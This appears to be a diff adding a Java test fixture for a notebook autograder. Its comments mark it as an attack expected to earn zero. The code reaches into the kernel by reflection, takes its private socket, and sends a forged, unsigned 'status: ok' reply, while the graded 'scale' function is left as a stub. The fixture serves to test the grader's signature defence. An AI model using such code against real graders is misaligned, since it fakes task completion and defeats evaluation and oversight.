@@ -1,0 +1,36 @@
+// attack: replies to the grader without a signature
+// assignment: 00-start-here
+// question: scale
+// earns: 0
+// reason: signature
+Object field(Object of, String name) throws Exception {
+    for (Class<?> type = of.getClass(); type != null; type = type.getSuperclass()) {
+        try {
+            var field = type.getDeclaredField(name);
+            field.setAccessible(true);
+            return field.get(of);
+        } catch (NoSuchFieldException above) {
+        }
+    }
+    throw new NoSuchFieldException(name + " of " + of.getClass());
+}
+java.nio.channels.SocketChannel wire() throws Exception {
+    Object output = field(io.percolate.kernel.Percolate.getKernelInstance(), "output");
+    return (java.nio.channels.SocketChannel) field(field(field(field(output, "publisher"), "channel"), "line"), "channel");
+}
+
+void send(java.nio.channels.SocketChannel wire, byte[]... frames) throws Exception {
+    int size = 4;
+    for (byte[] frame : frames) size += 4 + frame.length;
+    var bytes = java.nio.ByteBuffer.allocate(size).putInt(frames.length);
+    for (byte[] frame : frames) bytes.putInt(frame.length).put(frame);
+    bytes.flip();
+    while (bytes.hasRemaining()) wire.write(bytes);
+}
+
+double[] scale(int[] pixels) {
+    return new double[pixels.length];
+}
+
+send(wire(), "<IDS|MSG>".getBytes(), "forged".getBytes(), "{}".getBytes(), "{}".getBytes(), "{}".getBytes(), "{\"status\": \"ok\"}".getBytes());
+Thread.sleep(2000);
